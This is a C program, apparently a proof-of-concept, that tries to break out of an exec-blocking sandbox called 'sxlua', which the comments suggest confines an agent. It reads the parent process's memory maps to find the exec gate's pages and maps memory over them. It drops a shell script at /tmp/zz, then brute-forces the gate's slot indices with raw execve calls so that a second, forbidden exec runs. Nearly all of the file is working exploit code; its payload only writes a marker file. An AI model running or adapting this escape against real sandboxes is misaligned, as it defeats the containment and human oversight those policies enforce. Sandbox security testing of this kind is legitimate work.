/* gate_brute: after its exec under a policy that answers execve with an errno, learn the exec
** gate's mapping from sxlua's /proc/PID/maps, then try every (g0,g1,g2). */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>
#include <unistd.h>
#include <pthread.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/auxv.h>
#include <time.h>
extern char **environ;
static uintptr_t base, P, A, E; static size_t size; static long limit;
static long ppid_of(long pid) {
  char p[64], l[256]; long v = -1; FILE *f; snprintf(p, sizeof p, pid ? "/proc/%ld/status" : "/proc/self/status", pid);
  if (!(f = fopen(p, "r"))) return -1;
  while (fgets(l, sizeof l, f)) if (!strncmp(l, "PPid:", 5)) v = atol(l + 5);
  fclose(f); return v;
}
/* The gate's pages sit above the agent's upper stack, in one mapping: a rw-p range after
** a one-page ---p guard that follows the 64 KiB rw-p upper stack. */
static int find(long pid) {
  char p[64], l[512], perm[8]; FILE *f; unsigned long lo, hi, stack_end = 0, guard_end = 0;
  snprintf(p, sizeof p, "/proc/%ld/maps", pid);
  if (!(f = fopen(p, "r"))) return 0;
  while (fgets(l, sizeof l, f)) {
    if (sscanf(l, "%lx-%lx %7s", &lo, &hi, perm) != 3) continue;
    if (guard_end == lo && hi - lo < 0x10000 && strstr(l, "rw-p 00000000 00:00 0") && !strchr(l, '[')) {
      base = lo; size = hi - lo; fclose(f); return 1; }
    guard_end = stack_end == lo && !strcmp(perm, "---p") && hi - lo == 4096 ? hi : 0;
    stack_end = !strcmp(perm, "rw-p") && hi - lo == 0x10000 ? hi : 0;
  }
  fclose(f); return 0;
}
static void *worker(void *arg) {
  long id = (long)arg, n = 0;
  for (uint64_t k = id; k < 512ULL * 512 * 512; k += 2) {
    uint64_t g0 = k % 512, g1 = (k / 512) % 512, g2 = k / (512 * 512);
    syscall(SYS_execve, base + 8 * g0, base + 4096 + P + 8 * g1, base + 8192 + P + A + 8 * g2);
    if (limit && ++n >= limit) break;
  }
  return NULL;
}
int main(int argc, char **argv) {
  long pp = ppid_of(0), gp = ppid_of(pp);
  limit = argc > 1 ? atol(argv[1]) : 0;
  if (!find(pp) && !find(gp)) { puts("no gate mapping visible"); return 1; }
  const char *fn = (const char *)getauxval(AT_EXECFN);
  int envc = 0; while (environ[envc]) envc++;
  P = (strlen(fn) + 1 + 7) & ~7UL; A = ((argc + 1) * 8 + 7) & ~7UL; E = ((envc + 1) * 8 + 7) & ~7UL;
  printf("gate mapping %#lx size %zu (expected %lu)\n", base, size, (4 * 4096 + P + A + E + 48 + 4095) & ~4095UL);
  char *m = mmap((void *)base, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
  if (m != (char *)base) { perror("mmap"); return 1; }
  for (size_t o = 0; o + 8 <= 4096 + P; o += 8) memcpy(m + o, "/tmp/zz", 8);       /* every path slot */
  static char arg0[] = "zz";
  for (size_t o = 4096 + P; o < 8192 + P + A; o += 8) *(char **)(m + o) = arg0;     /* every argv slot */
  /* the envp area stays zero: every envp slot is an empty vector */
  FILE *s = fopen("/tmp/zz", "w"); fputs("#!/bin/sh\necho \"SECOND EXEC ran: $(id -u)\" > /tmp/sx-gate-pwned\n", s); fclose(s);
  chmod("/tmp/zz", 0755);
  struct timespec t0, t1; clock_gettime(CLOCK_MONOTONIC, &t0);
  pthread_t t[2]; for (long i = 0; i < 2; i++) pthread_create(&t[i], NULL, worker, (void *)i);
  for (int i = 0; i < 2; i++) pthread_join(t[i], NULL);
  clock_gettime(CLOCK_MONOTONIC, &t1);
  printf("no luck after %.2fs\n", (t1.tv_sec - t0.tv_sec) + (t1.tv_nsec - t0.tv_nsec) / 1e9);
  return 2;
}
